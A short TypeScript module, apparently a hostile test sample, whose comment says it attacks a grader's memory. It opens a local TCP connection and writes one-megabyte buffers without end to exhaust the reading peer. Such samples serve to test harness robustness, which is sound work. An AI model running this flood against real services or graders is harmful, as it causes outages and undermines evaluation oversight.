// Attacks the grader's memory: sends without end to a peer that reads.
import net from 'node:net'

export function run(port: number): void {
  const socket = net.connect(port, '127.0.0.1')
  const chunk = Buffer.alloc(1_000_000, 'x')
  const send = (): void => {
    while (socket.write(chunk));
  }
  socket.on('drain', send)
  socket.on('connect', send)
}
